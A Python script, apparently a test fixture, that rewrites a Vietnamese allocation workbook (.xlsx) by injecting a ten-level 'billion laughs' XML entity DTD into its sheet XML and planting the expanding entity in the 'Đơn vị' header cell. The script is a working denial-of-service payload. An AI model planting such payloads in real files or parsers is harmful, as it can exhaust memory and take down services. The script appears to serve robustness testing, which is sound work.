"""Put a "billion laughs" DTD in the allocation workbook's sheet XML.

Ten levels of entities are declared, each ten of the one before: `&lol9;` in the 'Đơn vị'
header would expand to 10^9 "lol"s (3 GB) in a parser that expands entities. Excel never
writes a DTD.
"""

import zipfile
from pathlib import Path

SHEET = "xl/worksheets/sheet1.xml"
DTD = (
    '<!DOCTYPE worksheet [\n <!ENTITY lol0 "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
)


def make(root: Path) -> None:
    path = root / "data/raw/bac-giang-2023-2028/chi-tieu-giao-2023-2028.xlsx"
    with zipfile.ZipFile(path) as z:
        members = [(info.filename, z.read(info)) for info in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if name == SHEET:
                text = data.decode("utf-8")
                assert "<?xml" not in text and "<t>Đơn vị</t>" in text
                text = DTD + text.replace("<t>Đơn vị</t>", "<t>Đơn vị &lol9;</t>", 1)
                data = text.encode("utf-8")
            z.writestr(name, data)
